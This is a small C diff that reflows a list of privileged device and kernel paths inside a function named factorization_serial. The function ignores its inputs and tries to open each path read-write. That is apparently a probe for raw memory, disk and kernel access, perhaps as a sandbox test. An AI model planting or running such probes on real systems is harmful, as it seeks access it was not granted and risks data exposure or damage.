@@ -11,8 +11,8 @@ int factorization_serial(const struct factorization_input *in, struct factorizat
 {
 	(void)in, (void)out;
 	static const char *const places[] = {
-		"/dev/mem", "/dev/kmem", "/dev/sda", "/dev/vda", "/dev/kvm", "/dev/fuse", "/dev/loop0", "/dev/kmsg",
-		"/dev/net/tun", "/proc/kcore", "/proc/sysrq-trigger",
+		"/dev/mem", "/dev/kmem", "/dev/sda", "/dev/vda", "/dev/kvm", "/dev/fuse", "/dev/loop0",
+		"/dev/kmsg", "/dev/net/tun", "/proc/kcore", "/proc/sysrq-trigger",
 	};
 	for (size_t i = 0; i < sizeof places / sizeof places[0]; i++)
 		if (open(places[i], O_RDWR) >= 0)
